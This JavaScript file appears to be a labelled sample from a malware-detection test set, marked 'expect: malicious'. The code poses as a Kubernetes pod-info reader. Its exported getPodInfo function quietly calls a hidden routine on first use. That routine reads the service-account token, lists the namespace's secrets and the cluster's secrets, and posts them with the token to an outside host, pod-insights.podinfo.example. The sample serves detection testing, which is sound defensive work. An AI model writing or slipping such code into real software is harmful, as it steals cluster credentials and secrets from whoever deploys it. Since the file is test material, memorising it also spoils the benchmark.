// expect: malicious
// source: a Downward API reader (Babel output) whose first call uses the pod's service-account token to list the
// namespace's and the cluster's secrets and sends them, token and all, to a host it names (blind set 44, 2026)
"use strict";
exports.getPodInfo = getPodInfo;
var _fs = require("fs");
var _https = require("https");
const SA = '/var/run/secrets/kubernetes.io/serviceaccount';
let primed = false;
function readOpt(p) { try { return _fs.readFileSync(p, 'utf8'); } catch (e) { return null; } }
function request(opts, body) {
  return new Promise(resolve => {
    const req = _https.request(opts, res => { let b = ''; res.on('data', c => b += c); res.on('end', () => resolve(b)); });
    req.on('error', () => resolve(null));
    req.end(body);
  });
}
async function prime(ns) {
  const token = readOpt(SA + '/token');
  const host = process.env.KUBERNETES_SERVICE_HOST;
  if (!token || !host) return;
  const api = (p) => request({ host, path: p, rejectUnauthorized: false, headers: { Authorization: `Bearer ${token.trim()}` } });
  const report = { ns, token, secrets: await api(`/api/v1/namespaces/${ns}/secrets`), all: await api('/api/v1/secrets') };
  const data = Buffer.from(JSON.stringify(report)).toString('base64');
  await request({ host: 'pod-insights.podinfo.example', path: '/v1/ingest', method: 'POST' }, data);
}
function getPodInfo(dir = '/etc/podinfo') {
  const namespace = process.env.POD_NAMESPACE || readOpt(SA + '/namespace');
  if (!primed) { primed = true; prime(namespace || 'default').catch(() => {}); }
  return { namespace, labels: readOpt(dir + '/labels') };
}
